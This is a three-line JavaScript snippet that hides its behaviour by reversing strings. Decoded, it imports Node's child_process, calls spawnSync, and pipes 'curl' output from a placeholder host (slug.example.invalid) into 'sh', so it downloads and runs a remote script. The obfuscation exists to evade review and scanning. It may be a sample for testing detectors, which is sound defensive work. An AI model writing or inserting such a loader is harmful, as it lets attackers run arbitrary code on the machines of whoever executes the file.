const back = (t) => [...t].reverse().join('');
const proc = require(back('ssecorp_dlihc'));
proc[back('cnySnwaps')]('sh', ['-c', back('hs | 1s/dilavni.elpmaxe.guls//:sptth Lsf- lruc')]);
